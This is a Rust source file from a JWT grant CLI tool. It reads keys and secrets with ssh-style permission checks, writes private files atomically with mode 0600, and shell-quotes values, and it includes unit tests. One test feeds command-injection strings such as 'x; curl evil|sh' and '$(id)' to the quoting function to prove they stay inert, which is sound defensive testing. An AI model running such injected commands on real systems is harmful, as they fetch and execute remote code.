//! Files and stdin: reading keys and secrets (each opened once, with ssh-style mode and owner
//! checks on that open file), writing new files (mode 0600 from creation for private ones,
//! never replacing one without --force, synced to disk), and writing stdout.

use std::fs;
use std::io::{self, Read, Write};
use std::path::Path;

use anyhow::{Context as _, Result, bail};
use zeroize::Zeroizing;

use crate::error::StdoutClosed;

/// Read a file, naming it in the error.
pub fn read(path: &Path, what: &str) -> Result<Vec<u8>> {
    fs::read(path).with_context(|| format!("cannot read {what} '{}'", path.display()))
}

/// A private file (a key or a secret), opened once: its bytes and the mode and owner of that
/// same open file, so what is checked is what was read (checking the path before or after
/// reading would race with someone swapping the file). The bytes are wiped when dropped.
#[derive(Debug)]
pub struct PrivateFile {
    bytes: Zeroizing<Vec<u8>>,
    /// `(mode & 0o777, owner uid)` of a regular file; `None` for a pipe or device (a
    /// process substitution, `/dev/stdin`), whose permissions say nothing about where the
    /// secret is kept.
    #[cfg_attr(not(unix), allow(dead_code, reason = "only Unix has modes and owners"))]
    access: Option<(u32, u32)>,
}

impl PrivateFile {
    /// Open `path`, take its metadata from the open handle (fstat), read it.
    pub fn open(path: &Path, what: &str) -> Result<Self> {
        if path == Path::new("-") {
            return Self::stdin(what);
        }
        let fail = || format!("cannot read {what} '{}'", path.display());
        let mut file = fs::File::open(path).with_context(fail)?;
        let meta = file.metadata().with_context(fail)?;
        #[cfg(unix)]
        let access = {
            use std::os::unix::fs::MetadataExt as _;
            meta.is_file().then(|| (meta.mode() & 0o777, meta.uid()))
        };
        #[cfg(not(unix))]
        let access = {
            let _ = &meta;
            None
        };
        let mut bytes = Zeroizing::new(Vec::new());
        file.read_to_end(&mut bytes).with_context(fail)?;
        Ok(Self { bytes, access })
    }

    /// All of stdin (`--key -`): a pipe, so no mode or owner to check.
    fn stdin(what: &str) -> Result<Self> {
        let mut bytes = Zeroizing::new(Vec::new());
        io::stdin()
            .read_to_end(&mut bytes)
            .with_context(|| format!("cannot read {what} from stdin"))?;
        if bytes.iter().all(u8::is_ascii_whitespace) {
            bail!("no {what} on stdin (--key - reads it from there)");
        }
        Ok(Self {
            bytes,
            access: None,
        })
    }

    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// ssh's rule for a private key, applied to every key and secret file: no permission
    /// bits for group or others, and owned by the current user or root (anyone else could
    /// replace it). `allow_insecure` turns a refusal into a warning.
    pub fn check(&self, path: &Path, what: &str, allow_insecure: bool) -> Result<()> {
        #[cfg(unix)]
        if let Some((mode, owner)) = self.access {
            let me = rustix::process::geteuid().as_raw();
            check_access(path, what, mode, owner, me, allow_insecure)?;
        }
        #[cfg(not(unix))]
        let _ = (path, what, allow_insecure);
        Ok(())
    }
}

/// The rule of [`PrivateFile::check`] on given numbers (so that tests can use any owner).
fn check_access(
    path: &Path,
    what: &str,
    mode: u32,
    owner: u32,
    me: u32,
    allow_insecure: bool,
) -> Result<()> {
    let p = path.display();
    let problem = if owner != me && owner != 0 {
        format!(
            "{what} '{p}' is owned by uid {owner}, not by the current user (uid {me}) or root, so its owner can replace it: use a copy you own ('cp {p} {p}.mine && chmod 600 {p}.mine') or pass --allow-insecure-key-permissions"
        )
    } else if mode & 0o077 != 0 {
        format!(
            "{what} '{p}' is accessible by group or others (mode {mode:04o}): run 'chmod 600 {p}' (or pass --allow-insecure-key-permissions)"
        )
    } else {
        return Ok(());
    };
    if allow_insecure {
        log::warn!("{problem}; using it because of --allow-insecure-key-permissions");
        return Ok(());
    }
    bail!(problem)
}

/// A secret's text from a file: the first line, trailing whitespace removed, not empty;
/// the file opened once and checked like a private key (after its content, so an empty or
/// binary file is reported as that).
pub fn read_secret_file(path: &Path, what: &str, allow_insecure: bool) -> Result<String> {
    let file = PrivateFile::open(path, what)?;
    let text = std::str::from_utf8(file.bytes())
        .map_err(|_| anyhow::anyhow!("{what} file '{}' is not UTF-8 text", path.display()))?;
    let line = text.lines().next().unwrap_or("").trim_end().to_owned();
    if line.is_empty() {
        bail!("{what} file '{}' is empty", path.display());
    }
    file.check(path, what, allow_insecure)?;
    Ok(line)
}

/// All of stdin as text (for `--assertion -`), trimmed.
pub fn read_stdin_trimmed(what: &str) -> Result<String> {
    let mut s = String::new();
    io::stdin()
        .read_to_string(&mut s)
        .with_context(|| format!("cannot read {what} from stdin"))?;
    let s = s.trim().to_owned();
    if s.is_empty() {
        bail!("no {what} on stdin");
    }
    Ok(s)
}

/// The first line of stdin (for `--client-secret-stdin`).
pub fn read_stdin_line(what: &str) -> Result<String> {
    let mut s = String::new();
    io::stdin()
        .read_line(&mut s)
        .with_context(|| format!("cannot read {what} from stdin"))?;
    let s = s.trim_end().to_owned();
    if s.is_empty() {
        bail!("no {what} on stdin");
    }
    Ok(s)
}

/// Write a file that must stay private: mode 0600 from creation, durable (the file and its
/// directory are synced before this returns). Without `overwrite` the file is created with
/// `O_EXCL`, so an existing file (or one that appears at the same moment, or a symlink) is
/// never replaced. With `overwrite` it is written under a temporary name in the same
/// directory and renamed over the target, so it never exists half-written or with wider
/// permissions (an existing file's mode is not inherited).
pub fn write_private(path: &Path, contents: &[u8], overwrite: bool) -> Result<()> {
    write_new(path, contents, overwrite, Some(0o600))
}

/// Write a public file (mode from the umask), with [`write_private`]'s rules otherwise.
pub fn write_public(path: &Path, contents: &[u8], overwrite: bool) -> Result<()> {
    write_new(path, contents, overwrite, None)
}

fn write_new(path: &Path, contents: &[u8], overwrite: bool, mode: Option<u32>) -> Result<()> {
    let exists = || {
        anyhow::anyhow!(
            "'{}' already exists (pass --force to replace it)",
            path.display()
        )
    };
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let target = if overwrite {
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        dir.join(format!(".{name}.tmp-{}", std::process::id()))
    } else {
        path.to_owned()
    };
    let mut opts = fs::OpenOptions::new();
    opts.write(true).create_new(true);
    #[cfg(unix)]
    if let Some(mode) = mode {
        use std::os::unix::fs::OpenOptionsExt as _;
        opts.mode(mode);
    }
    #[cfg(not(unix))]
    let _ = mode;
    let mut file = match opts.open(&target) {
        Ok(f) => f,
        Err(e) if e.kind() == io::ErrorKind::AlreadyExists && !overwrite => return Err(exists()),
        Err(e) => {
            return Err(anyhow::Error::new(e).context(format!("cannot write '{}'", path.display())));
        }
    };
    let written = (|| -> io::Result<()> {
        file.write_all(contents)?;
        file.sync_all()?;
        if overwrite {
            fs::rename(&target, path)?;
        }
        sync_dir(dir)
    })();
    if written.is_err() {
        // Only ever the file this call created: the temporary one, or the new target.
        let _ = fs::remove_file(&target);
    }
    written.with_context(|| format!("cannot write '{}'", path.display()))
}

/// Make a new or renamed directory entry durable (a crash right after must not lose it).
fn sync_dir(dir: &Path) -> io::Result<()> {
    #[cfg(unix)]
    {
        fs::File::open(dir)?.sync_all()
    }
    #[cfg(not(unix))]
    {
        let _ = dir;
        Ok(())
    }
}

/// Write to stdout; a closed pipe becomes `StdoutClosed` (exit 0, nothing printed).
///
/// Everything the binary prints goes through here, and through the output gate
/// ([`text::terminal_safe`](jwtgrant_exchange::text::terminal_safe)) on the way: what came
/// from a server, a token or a file (claims, Keycloak's words, the doctor's findings) can
/// move no cursor and retitle no window. Line breaks stay; nothing the binary writes on
/// purpose (keys, tokens, JSON) holds another control character.
pub fn stdout(text: &str) -> Result<()> {
    let text = jwtgrant_exchange::text::terminal_safe(text);
    let mut out = io::stdout().lock();
    let r = out.write_all(text.as_bytes()).and_then(|()| out.flush());
    match r {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => Err(StdoutClosed.into()),
        Err(e) => Err(anyhow::Error::new(e).context("cannot write to stdout")),
    }
}

/// `value` as one POSIX shell word: as it is when it holds only characters no shell treats
/// specially, else in single quotes (a `'` inside written as `'\''`). For the lines jwtgrant
/// prints to be run or `eval`ed: the doctor command after a rejection, `--output env`.
pub fn shell_word(value: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
    if !value.is_empty() && value.chars().all(plain) {
        value.to_owned()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

/// Write a line to stdout.
pub fn println(text: &str) -> Result<()> {
    let mut s = String::with_capacity(text.len() + 1);
    s.push_str(text);
    s.push('\n');
    stdout(&s)
}

#[cfg(all(test, unix))]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt as _;

    fn mode(p: &Path) -> u32 {
        fs::metadata(p).unwrap().permissions().mode() & 0o777
    }

    #[test]
    fn private_files_are_0600_and_not_overwritten() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("secret");
        // An existing world-readable file must not lend its mode to the new content.
        fs::write(&p, "old").unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o644)).unwrap();
        let err = write_private(&p, b"new", false).unwrap_err();
        assert_eq!(
            format!("{err:#}"),
            format!(
                "'{}' already exists (pass --force to replace it)",
                p.display()
            )
        );
        assert_eq!(fs::read_to_string(&p).unwrap(), "old");
        write_private(&p, b"new", true).unwrap();
        assert_eq!(fs::read_to_string(&p).unwrap(), "new");
        assert_eq!(mode(&p), 0o600);
        // New files: 0600 at once, and nothing but the target left in the directory.
        let q = dir.path().join("fresh");
        write_private(&q, b"x", false).unwrap();
        assert_eq!(mode(&q), 0o600);
        let mut names: Vec<_> = fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        assert_eq!(names, ["fresh", "secret"]);
    }

    #[test]
    fn a_symlink_is_not_followed_when_creating() {
        let dir = tempfile::tempdir().unwrap();
        let victim = dir.path().join("victim");
        fs::write(&victim, "keep").unwrap();
        let link = dir.path().join("private.pem");
        std::os::unix::fs::symlink(&victim, &link).unwrap();
        let err = write_private(&link, b"key", false).unwrap_err();
        assert_eq!(
            format!("{err:#}"),
            format!(
                "'{}' already exists (pass --force to replace it)",
                link.display()
            )
        );
        // Also a dangling one: O_EXCL does not create through it.
        fs::remove_file(&victim).unwrap();
        assert!(write_public(&link, b"pub", false).is_err());
        assert!(!victim.exists());
    }

    #[test]
    fn open_keys_are_refused_with_the_fix() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("k.pem");
        fs::write(&p, "x").unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o640)).unwrap();
        let file = PrivateFile::open(&p, "private key").unwrap();
        assert_eq!(file.bytes(), b"x");
        let err = file.check(&p, "private key", false).unwrap_err();
        assert_eq!(
            format!("{err:#}"),
            format!(
                "private key '{0}' is accessible by group or others (mode 0640): run 'chmod 600 {0}' (or pass --allow-insecure-key-permissions)",
                p.display()
            )
        );
        assert!(file.check(&p, "private key", true).is_ok());
        // The check is on the handle opened before: making the path safe afterwards does not
        // make the bytes already read safe.
        fs::set_permissions(&p, fs::Permissions::from_mode(0o600)).unwrap();
        assert!(file.check(&p, "private key", false).is_err());
        let reopened = PrivateFile::open(&p, "private key").unwrap();
        assert!(reopened.check(&p, "private key", false).is_ok());
    }

    #[test]
    fn owners_other_than_the_user_or_root_are_refused() {
        let p = Path::new("k.pem");
        let check = |owner, me| {
            check_access(p, "client secret", 0o600, owner, me, false).map_err(|e| format!("{e:#}"))
        };
        assert!(check(1000, 1000).is_ok());
        assert!(check(0, 1000).is_ok());
        assert!(check(0, 0).is_ok());
        assert_eq!(
            check(1001, 1000),
            Err("client secret 'k.pem' is owned by uid 1001, not by the current user (uid 1000) or root, so its owner can replace it: use a copy you own ('cp k.pem k.pem.mine && chmod 600 k.pem.mine') or pass --allow-insecure-key-permissions".to_owned())
        );
        assert!(check_access(p, "client secret", 0o600, 1001, 1000, true).is_ok());
    }

    #[test]
    fn secret_files_are_read_once_and_checked() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("s");
        fs::write(&p, "hunter2 \nsecond line\n").unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(0o644)).unwrap();
        let err = read_secret_file(&p, "client secret", false).unwrap_err();
        assert_eq!(
            format!("{err:#}"),
            format!(
                "client secret '{0}' is accessible by group or others (mode 0644): run 'chmod 600 {0}' (or pass --allow-insecure-key-permissions)",
                p.display()
            )
        );
        assert_eq!(
            read_secret_file(&p, "client secret", true).unwrap(),
            "hunter2"
        );
        fs::set_permissions(&p, fs::Permissions::from_mode(0o600)).unwrap();
        assert_eq!(
            read_secret_file(&p, "client secret", false).unwrap(),
            "hunter2"
        );
        // A device or pipe has no mode worth checking; its content still has to be there.
        let err = read_secret_file(Path::new("/dev/null"), "client secret", false).unwrap_err();
        assert_eq!(
            format!("{err:#}"),
            "client secret file '/dev/null' is empty"
        );
    }

    /// Every word survives a POSIX shell as the one word it was, whatever the server put in.
    #[test]
    fn shell_words_are_one_word_to_sh() {
        for value in [
            "plain.token-1",
            "x; curl evil|sh",
            "$(id)`id`",
            "it's",
            "",
            "a b\tc",
        ] {
            let word = shell_word(value);
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s' {word}"))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), value, "{word}");
        }
        assert_eq!(shell_word("eyJ.abc-_"), "eyJ.abc-_");
    }
}
